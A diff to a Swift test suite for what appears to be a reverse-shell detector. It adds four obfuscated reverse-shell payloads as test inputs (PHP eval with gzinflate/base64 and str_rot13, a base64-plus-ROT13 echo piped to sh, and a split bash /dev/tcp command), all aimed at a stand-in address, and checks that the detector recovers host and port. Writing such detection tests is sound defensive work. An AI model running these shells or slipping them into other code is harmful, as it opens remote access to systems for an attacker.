@@ -31,6 +31,19 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.port == 4242)
   }
 
+  /// Compressed without a header, letters turned once the Base64 is off, and a command in two halves.
+  @Test(arguments: [
+    "<?php eval(gzinflate(base64_decode('Uym2TSvOT87OL0jN01AytLTQMzXUMzQw0LNU0jExMjHStE6tSE3WUNJPyszTL85Q0M1UsFEzVrADYiMgoaRpDQA='))); ?>",
+    "<?php eval(str_rot13('$f=sfbpxbcra(\"198.51.100.9\",4242);rkrp(\"/ova/fu -v <&3 >&3 2>&3\");')); ?>",
+    "echo b25mdSAtdiA+JiAvcXJpL2dwYy8xOTguNTEuMTAwLjkvNDI0MiAwPiYx | base64 -d | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
+    "a='bash -i';b=' >& /dev/tcp/198.51.100.9/4242 0>&1';eval \"$a$b\"",
+  ])
+  func undoesWhatIsRare(text: String) {
+    let found = shells(text).first { $0.kind == .reverseShell }
+    #expect(found?.host == "198.51.100.9")
+    #expect(found?.port == 4242)
+  }
+
   /// In lines of any length, in quotes side by side, by one `echo` after the other.
   @Test func readsBase64InPieces() {
     let digits = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
